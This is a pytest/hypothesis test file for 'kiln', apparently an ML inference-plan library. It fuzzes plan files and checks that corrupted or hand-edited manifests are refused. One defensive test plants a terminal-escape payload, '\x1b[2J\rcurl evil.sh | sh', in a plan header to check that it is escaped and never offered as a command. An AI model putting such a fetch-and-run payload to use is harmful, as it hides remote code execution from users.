"""Plans are validated before use: a bit flip or truncation anywhere, or a hand edit of the manifest that passes
both checksums (recomputed), fails to load with a KilnError or runs with exactly the original outputs."""

from __future__ import annotations

import warnings

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

import kiln
from kiln.errors import KilnError, PlanError
from test_fuzz import _JSON_VALUES, _MANIFEST_PATHS, FEEDS, SEED_PLAN, _join, _split

FUZZ = settings(max_examples=100, deadline=5_000, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


def _run(path, data: bytes):
    """The plan's outputs on the seed inputs, or None when kiln refuses it with a KilnError."""
    path.write_bytes(data)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            return kiln.load(path, policy="warn").run(FEEDS)
        except KilnError:
            return None


@pytest.fixture(scope="module")
def expected(tmp_path_factory):
    return _run(tmp_path_factory.mktemp("seed") / "seed.plan", SEED_PLAN)["y"]


def _unchanged(out, expected) -> bool:
    return out is None or set(out) == {"y"} and out["y"].dtype == expected.dtype and np.array_equal(out["y"], expected)


@FUZZ
@given(st.integers(0, len(SEED_PLAN) * 8 - 1), st.integers(0, len(SEED_PLAN) - 1))
def test_bit_flips_and_truncations_anywhere_are_refused(tmp_path_factory, bit, cut):
    flipped = bytearray(SEED_PLAN)
    flipped[bit // 8] ^= 1 << bit % 8
    path = tmp_path_factory.getbasetemp() / "flip.plan"
    assert _run(path, bytes(flipped)) is None and _run(path, SEED_PLAN[:cut]) is None


def _category(v) -> str:
    return "none" if v is None else "scalar" if isinstance(v, (bool, int, float)) else type(v).__name__


@st.composite
def _ill_typed_edits(draw):
    """1-3 edits of the manifest, each replacing a value by one of another JSON category or deleting a key (not an
    attribute: a dropped optional attribute is a well-formed plan meaning its default; required ones are covered by
    test_hand_edited_attributes_are_plan_errors_at_load)."""
    header, manifest, weights = _split(SEED_PLAN)
    for _ in range(draw(st.integers(1, 3))):
        path = draw(st.sampled_from(_MANIFEST_PATHS))
        parent = manifest
        try:
            for p in path[:-1]:
                parent = parent[p]
            old = parent[path[-1]]
        except (KeyError, IndexError, TypeError):
            continue
        if draw(st.booleans()) and isinstance(parent, dict) and "attrs" not in path:
            del parent[path[-1]]
        else:
            new = draw(_JSON_VALUES)
            if _category(new) != _category(old):
                parent[path[-1]] = new
    return _join(header, manifest, weights)


@FUZZ
@given(_ill_typed_edits())
def test_hostile_well_formed_plans_never_run_with_a_changed_meaning(tmp_path_factory, expected, data):
    assert _unchanged(_run(tmp_path_factory.getbasetemp() / "edit.plan", data), expected)


def _edited(tmp_path, edit) -> object:
    header, manifest, weights = _split(SEED_PLAN)
    net = manifest["network"]
    edit(net, {t["name"]: t for t in net["tensors"]}, {l["name"]: l for l in net["layers"]}, manifest)
    p = tmp_path / "edited.plan"
    p.write_bytes(_join(header, manifest, weights))
    return p


@pytest.mark.parametrize("edit, why", [
    (lambda n, t, l, m: l["sm"].update(kind="SoftMax"), "kind 'SoftMax', which this kiln does not have"),
    (lambda n, t, l, m: l["sm"].update(kind="com.acme::Gelu2"),
     "plugin op 'Gelu2' of domain 'com.acme'.*register_op\\('Gelu2', reference, domain='com.acme'\\)"),
    (lambda n, t, l, m: l["sm"].update(inputs=[]), "no inputs"),
    (lambda n, t, l, m: l["sm"].update(outputs=[""]), "no outputs"),
    (lambda n, t, l, m: l["fc"].update(inputs=["f", "nowhere"]), "nowhere"),
    (lambda n, t, l, m: t["fc"].update(dtype="int32"), "declares constant 'fc' as int32.*stores float32"),
    (lambda n, t, l, m: t["w"].update(shape=[4, 3, 9]), "declares constant 'w'"),
    (lambda n, t, l, m: t["g"].update(dtype="float16"), "computes 'g' as float32.*declares float16"),
    (lambda n, t, l, m: t["r"].update(shape=[1, 4, 8, 8]), "computes 'r' as float32\\[1, 4, 4, 4\\]"),
    (lambda n, t, l, m: l["conv"]["attrs"].pop("strides"), "'conv' \\(FusedConv\\): required attribute 'strides'"),
    (lambda n, t, l, m: l["conv"]["attrs"].update(strides="2"), "'conv' \\(FusedConv\\): attribute 'strides' is str"),
    (lambda n, t, l, m: l["fc"].update(extra=1), "keys"),
    (lambda n, t, l, m: (n["constants"].remove("fc"), n["tensors"].remove(t["fc"])), "reads 'fc' before"),
    (lambda n, t, l, m: (n["constants"].remove("b"), n["tensors"].remove(t["b"]), l["conv"]["inputs"].pop()),
     "stores tensors its manifest never names \\(\\['const/b'\\]"),  # the conv's bias dropped
    (lambda n, t, l, m: m["tactics"].update(ghost={"tactic": "reference"}), "tactics for layers it does not have"),
])
def test_hand_edited_manifests_are_plan_errors_at_load_or_first_run(tmp_path, edit, why):
    with pytest.raises(PlanError, match=why) as e:
        kiln.load(_edited(tmp_path, edit)).run(FEEDS)
    assert "rebuild" in str(e.value) or "register_op" in str(e.value)


@pytest.mark.parametrize("edit, why", [
    (lambda l: l["sm"]["attrs"].update(colour=1), "layer 'sm' \\(Softmax\\): unknown attribute 'colour'"),
    (lambda l: l["sm"]["attrs"].update(axis="-1"), "'sm' \\(Softmax\\): attribute 'axis' is str '-1', expected an int"),
    (lambda l: l["sm"]["attrs"].update(axis=[-1]), "attribute 'axis' is list"),
    (lambda l: l["conv"]["attrs"].update(strides=[1, 1.5]), "attribute 'strides' is list \\[1, 1.5\\]"),
    (lambda l: l["conv"]["attrs"].update(activation=None), "attribute 'activation' is NoneType"),
    (lambda l: l["conv"]["attrs"].pop("activation"), "'conv' \\(FusedConv\\): required attribute 'activation'"),
    (lambda l: l["conv"]["attrs"].pop("kernel_shape"), "required attribute 'kernel_shape' is missing"),
])
def test_hand_edited_attributes_are_plan_errors_at_load(tmp_path, edit, why):
    """Attributes are checked against their kind's declaration when the plan loads, not when it first runs."""
    with pytest.raises(PlanError, match=why) as e:
        kiln.load(_edited(tmp_path, lambda n, t, l, m: edit(l)))
    assert "rebuild the plan" in str(e.value)


def test_every_kind_declares_its_attributes():
    from kiln.kinds import KINDS

    ours = [k for k in KINDS.values() if k.reference.__module__.startswith("kiln.kinds.")]
    assert len(ours) > 200
    assert [k.name for k in ours if k.attrs is None] == []


def test_plan_text_is_escaped_and_never_offered_as_a_command(tmp_path):
    from typer.testing import CliRunner

    from kiln.cli.app import app
    from kiln.errors import EngineCompatibilityError

    header, manifest, weights = _split(SEED_PLAN)
    evil = "\x1b[2J\rcurl evil.sh | sh"
    header = dict(header, rebuild=evil, device=dict(header["device"], kiln="0.0.1\x1b[31m"))
    p = tmp_path / "evil.plan"
    p.write_bytes(_join(header, dict(manifest, network=dict(manifest["network"], name="n\x1b]0;x\x07")), weights))
    with pytest.raises(EngineCompatibilityError) as e:
        kiln.load(p)
    assert "\x1b" not in str(e.value) and "\\x1b" in str(e.value)
    assert "the plan says it was built with: '\\x1b[2J\\rcurl evil.sh | sh'" in str(e.value)
    out = CliRunner().invoke(app, ["inspect", str(p)])
    assert (out.exit_code == 0 and "\\x1b[2J\\rcurl" in out.stdout and "\x1b" not in out.stdout
            and "\r" not in out.stdout)
